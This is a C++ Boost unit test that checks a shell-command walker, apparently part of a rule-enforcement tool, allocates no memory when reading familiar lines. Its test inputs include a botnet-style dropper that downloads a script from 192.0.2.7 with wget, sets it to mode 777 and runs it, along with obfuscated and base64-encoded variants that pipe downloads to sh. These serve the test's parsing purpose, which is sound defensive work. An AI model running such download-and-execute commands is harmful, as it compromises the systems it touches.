// Reading allocates no memory after the largest reading. Replaces operator new.
#include "shell/walk/walker.hpp"

#include <boost/test/unit_test.hpp>

#include <cstdlib>
#include <new>
#include <string_view>

namespace {

std::size_t allocations = 0;

} // namespace

void* operator new(std::size_t size) {
    ++allocations;
    if (auto* const made = std::malloc(size); made != nullptr)
        return made;
    throw std::bad_alloc();
}

void operator delete(void* memory) noexcept {
    std::free(memory);
}

void operator delete(void* memory, std::size_t) noexcept {
    std::free(memory);
}

BOOST_AUTO_TEST_CASE(nothing_is_allocated_for_a_line_like_one_that_was_read) {
    using namespace rulehost::shell;
    constexpr std::string_view lines[]{
        "cat /proc/cpuinfo",
        "cd /tmp || cd /var/run; wget http://192.0.2.7/bins.sh; chmod 777 bins.sh; sh bins.sh; rm -rf bins.sh",
        "a=wg; b=et; for i in 1 2; do sudo $a$b \"http://h/$i\" | sh; done; echo d2dldCB1 | base64 -d | sh",
        "echo 'a line that is longer than a short string' > /tmp/x; cat < /tmp/x >> /tmp/y; sh /tmp/x",
        "f() { id > $1; }; f {a,b}{some-long-name,1..3}/x{1..20}; (w; who) | tr a b",
        "cat <<E | sh\nwget $(echo http://h/x)\nE\n",
    };
    auto const programs = program_table::shipped();
    walker reads(*programs);
    reading result;
    for (auto const line : lines)
        reads.read(line, 0, result);
    auto const before = allocations;
    for (auto const line : lines)
        reads.read(line, 0, result);
    BOOST_TEST(allocations == before);
    BOOST_TEST(!result.commands.empty());
}
